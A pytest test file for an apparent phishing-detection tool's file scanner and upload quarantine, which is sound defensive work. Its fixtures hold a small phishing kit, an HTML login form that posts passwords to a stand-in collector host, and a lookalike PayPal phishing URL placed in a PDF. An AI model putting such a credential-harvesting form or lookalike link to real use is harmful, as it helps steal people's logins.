"""``trustwatch file scan`` and ``trustwatch run --content-dir``, end to end."""

from __future__ import annotations

import hashlib
import json
import os
import re
import sys
from datetime import UTC, datetime
from pathlib import Path

import msgspec

from content.builders import pdf_with_link
from trustwatch.cli.exitcodes import ExitCode
from trustwatch.cli.main import main
from trustwatch.events.model import FileUploaded, Login

PHISH_URL = "https://paypal.com.secure-login.example/webscr?cmd=login"
KIT = (
    b"<html><body><form method=post action='https://collect.example/p.php'>"
    b"<input name=email><input type=password name=pw></form>"
    b"<a href='mailto:help@collect.example'>help</a></body></html>"
)


def test_file_scan_prints_kind_urls_forms_and_errors(tmp_path: Path, capsys) -> None:
    kit = tmp_path / "login.html"
    kit.write_bytes(KIT)
    pdf = tmp_path / "invoice.pdf"
    pdf.write_bytes(pdf_with_link(PHISH_URL))
    broken = tmp_path / "scan.pdf"
    broken.write_bytes(b"%PDF-1.7\n garbage")
    assert main(["file", "scan", str(kit), str(pdf), str(broken)]) == ExitCode.OK
    out = capsys.readouterr().out
    assert f"{kit}: html, {len(KIT)} bytes" in out
    assert (
        "form POST https://collect.example/p.php: password yes, "
        "posts to another domain yes (collect.example)"
    ) in out
    assert "other url mailto:help@collect.example" in out
    line = next(x for x in out.splitlines() if PHISH_URL in x and "(PDF link)" in x)
    # the URL model's score, the same one `url score` gives
    assert float(line.split()[1]) >= 0.5
    # the model's reasons name what drove the score
    reasons = out.split(line, 1)[1].splitlines()[1:3]
    assert reasons and all(r.startswith("    - ") for r in reasons)
    assert "finding file_lure_document" in out
    assert "error: pdf_unreadable: " in out
    assert "finding file_unreadable 0.30" in out


def test_file_scan_json_lines(tmp_path: Path, capsys) -> None:
    kit = tmp_path / "login.html"
    kit.write_bytes(KIT)
    pdf = tmp_path / "invoice.pdf"
    pdf.write_bytes(pdf_with_link(PHISH_URL))
    assert main(["file", "scan", str(kit), str(pdf), "--json"]) == ExitCode.OK
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [row["kind"] for row in rows] == ["html", "pdf"]
    assert rows[0]["sha256"] == hashlib.sha256(KIT).hexdigest()
    form = rows[0]["forms"][0]
    assert (form["has_password"], form["posts_to_other_domain"]) == (True, True)
    assert form["registrable_domain"] == "collect.example"
    assert rows[0]["other_urls"] == ["mailto:help@collect.example"]
    assert "file_credential_form" in {f["kind"] for f in rows[0]["findings"]}
    link = rows[1]["urls"][0]
    assert (link["url"], link["place"]) == (PHISH_URL, "PDF link")
    assert link["registrable_domain"] == "secure-login.example"
    assert link["score"] > 0.8 and link["reasons"]
    assert rows[1]["errors"] == [] and rows[1]["error"] is None


def test_file_scan_escapes_what_it_prints(tmp_path: Path, capsys) -> None:
    page = tmp_path / "x.html"
    page.write_bytes(b'<html><a href="mailto:a\x1b[31m@b.example">x</a></html>')
    assert main(["file", "scan", str(page)]) == ExitCode.OK
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "other url mailto:a\\x1b[31m@b.example" in out


def test_file_scan_reports_unreadable_paths_and_goes_on(tmp_path: Path, capsys) -> None:
    good = tmp_path / "ok.html"
    good.write_bytes(b"<html><p>nothing here</p></html>")
    missing = tmp_path / "missing.pdf"
    code = main(["file", "scan", str(missing), str(good), "--json"])
    assert code == ExitCode.BAD_INPUT
    captured = capsys.readouterr()
    rows = [json.loads(line) for line in captured.out.splitlines()]
    assert rows[0]["error"].startswith("cannot open")
    assert (rows[1]["kind"], rows[1]["urls"], rows[1]["error"]) == ("html", [], None)
    assert "cannot open" in captured.err


def test_file_scan_walks_a_folder_and_skips_links(tmp_path: Path, capsys) -> None:
    upload = tmp_path / "upload"
    (upload / "b" / "deeper").mkdir(parents=True)
    (upload / "b" / "deeper" / "kit.html").write_bytes(KIT)
    (upload / "a.pdf").write_bytes(pdf_with_link(PHISH_URL))
    (upload / "c.txt").write_text("nothing here")
    outside = tmp_path / "outside.html"
    outside.write_bytes(KIT)
    (upload / "link.html").symlink_to(outside)
    (upload / "loop").symlink_to(upload, target_is_directory=True)
    assert main(["file", "scan", str(upload), "--json"]) == ExitCode.OK
    captured = capsys.readouterr()
    assert "skipped 2 links, pipes or other entries" in captured.err
    rows = [json.loads(line) for line in captured.out.splitlines()]
    assert [Path(row["path"]).relative_to(upload).as_posix() for row in rows] == [
        "a.pdf",
        "c.txt",
        "b/deeper/kit.html",
    ]
    assert rows[2]["forms"][0]["has_password"] is True


def test_file_scan_reports_a_folder_it_cannot_list(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    upload = tmp_path / "upload"
    (upload / "locked").mkdir(parents=True)
    (upload / "open.html").write_bytes(KIT)
    listing = os.scandir

    def refusing(path):  # as for a folder without the read permission
        if Path(path).name == "locked":
            raise PermissionError(13, "Permission denied")
        return listing(path)

    monkeypatch.setattr(os, "scandir", refusing)
    code = main(["file", "scan", str(upload), "--json"])
    assert code == ExitCode.BAD_INPUT
    captured = capsys.readouterr()
    rows = [json.loads(line) for line in captured.out.splitlines()]
    assert [Path(row["path"]).name for row in rows] == ["open.html", "locked"]
    assert rows[1]["error"] == f"cannot list {upload / 'locked'}: Permission denied"
    assert "cannot list" in captured.err


def test_file_scan_of_a_folder_without_files_says_so(tmp_path: Path, capsys) -> None:
    empty = tmp_path / "empty"
    (empty / "sub").mkdir(parents=True)
    (empty / "link.html").symlink_to(tmp_path / "elsewhere.html")
    assert main(["file", "scan", str(empty)]) == ExitCode.OK
    captured = capsys.readouterr()
    assert captured.out == ""
    assert f"warning: {empty} holds no file to scan" in captured.err


def test_file_scan_walks_a_tree_deeper_than_the_recursion_limit(
    tmp_path: Path, capsys
) -> None:
    # made and removed a level at a time: mkdir(parents=True), rmtree and
    # pytest's own clean-up of old temporary folders recurse
    top = str(tmp_path / "deep")
    folders = [top]
    for _ in range(sys.getrecursionlimit() + 50):
        folders.append(folders[-1] + "/d")
    for folder in folders:
        os.mkdir(folder)
    kit = Path(folders[-1], "kit.html")
    kit.write_bytes(KIT)
    try:
        assert main(["file", "scan", top, "--json"]) == ExitCode.OK
        rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
        assert [row["kind"] for row in rows] == ["html"]
    finally:
        kit.unlink()
        for folder in reversed(folders):
            os.rmdir(folder)


def test_file_scan_scans_a_file_once_however_it_is_named(
    tmp_path: Path, capsys
) -> None:
    upload = tmp_path / "upload"
    upload.mkdir()
    (upload / "kit.html").write_bytes(KIT)
    named = [str(upload), f"{upload}/", str(upload / "kit.html")]
    assert main(["file", "scan", *named, "--json"]) == ExitCode.OK
    assert len(capsys.readouterr().out.splitlines()) == 1


def test_file_scan_shows_a_name_that_is_not_utf8_escaped(
    tmp_path: Path, capsys
) -> None:
    upload = tmp_path / "upload"
    upload.mkdir()
    odd = os.path.join(os.fsencode(upload), b"r\xe9sum\xe9.html")
    with open(odd, "wb") as out:
        out.write(KIT)
    assert main(["file", "scan", str(upload), "--json"]) == ExitCode.OK
    (row,) = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert row["path"].endswith("r\\xe9sum\\xe9.html")
    assert row["forms"][0]["has_password"] is True
    assert main(["file", "scan", str(upload)]) == ExitCode.OK
    assert "r\\xe9sum\\xe9.html: html" in capsys.readouterr().out


def test_run_with_a_content_dir_quarantines_a_phishing_upload(
    tmp_path: Path, capsys
) -> None:
    content = tmp_path / "content"
    digest = hashlib.sha256(KIT).hexdigest()
    fanned = content / digest[:2] / digest[2:4]
    fanned.mkdir(parents=True)
    (fanned / digest).write_bytes(KIT)
    ts = datetime(2026, 3, 1, tzinfo=UTC)
    events = tmp_path / "events.jsonl"
    records = [
        Login(event_id="l1", ts=ts, account="alice", success=True),
        FileUploaded(
            event_id="u1", ts=ts, account="alice", file_id="f1", sha256=digest
        ),
    ]
    events.write_bytes(b"\n".join(msgspec.json.encode(r) for r in records) + b"\n")
    db = str(tmp_path / "store.sqlite")

    args = ["run", str(events), "--db", db]
    assert main([*args, "--content-dir", str(content)]) == ExitCode.OK
    assert "signal file_credential_form" in capsys.readouterr().out
    assert main(["alerts", "--db", db, "--kind", "file_credential_form", "--json"]) == 0
    verdicts = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(v["event_id"], v["decision"]) for v in verdicts] == [
        ("u1", "quarantine_file")
    ]
    assert verdicts[0]["signals"][0]["entity"] == f"sha256:{digest}"

    other_db = str(tmp_path / "without.sqlite")
    assert main(["run", str(events), "--db", other_db]) == ExitCode.OK
    assert "file_credential_form" not in capsys.readouterr().out


def test_run_refuses_a_content_dir_that_is_not_a_folder(tmp_path: Path, capsys) -> None:
    events = tmp_path / "events.jsonl"
    events.write_bytes(b"")
    code = main(["run", str(events), "--content-dir", str(tmp_path / "none")])
    assert code == ExitCode.BAD_INPUT
    assert "does not exist" in capsys.readouterr().err


def test_run_counts_the_uploads_whose_file_the_content_dir_lacks(
    tmp_path: Path, capsys
) -> None:
    content = tmp_path / "content"
    content.mkdir()
    digest = hashlib.sha256(KIT).hexdigest()
    (content / digest).write_bytes(KIT)
    ts = datetime(2026, 3, 1, tzinfo=UTC)
    absent = [hashlib.sha256(bytes([n])).hexdigest() for n in range(3)]
    records = [
        FileUploaded(
            event_id=f"u{n}", ts=ts, account="alice", file_id=f"f{n}", sha256=sha
        )
        # the first absent file is uploaded twice: one file, counted once
        for n, sha in enumerate([digest, *absent, absent[0]])
    ]
    events = tmp_path / "events.jsonl"
    events.write_bytes(b"\n".join(msgspec.json.encode(r) for r in records) + b"\n")
    db = str(tmp_path / "store.sqlite")

    args = ["run", str(events), "--db", db, "--content-dir", str(content)]
    assert main(args) == ExitCode.OK

    out = capsys.readouterr().out
    assert re.search(r"uploaded files not in the content folder\s*│\s*3 of 4", out)


def test_run_warns_when_the_content_dir_holds_none_of_the_uploads(
    tmp_path: Path, capsys
) -> None:
    wrong = tmp_path / "elsewhere"
    wrong.mkdir()
    ts = datetime(2026, 3, 1, tzinfo=UTC)
    upload = FileUploaded(
        event_id="u1", ts=ts, account="a", file_id="f1", sha256="ab" * 32
    )
    events = tmp_path / "events.jsonl"
    events.write_bytes(msgspec.json.encode(upload) + b"\n")
    db = str(tmp_path / "store.sqlite")

    assert main(["run", str(events), "--db", db, "--content-dir", str(wrong)]) == 0

    assert (
        "none of the 1 uploaded files was in --content-dir" in capsys.readouterr().err
    )
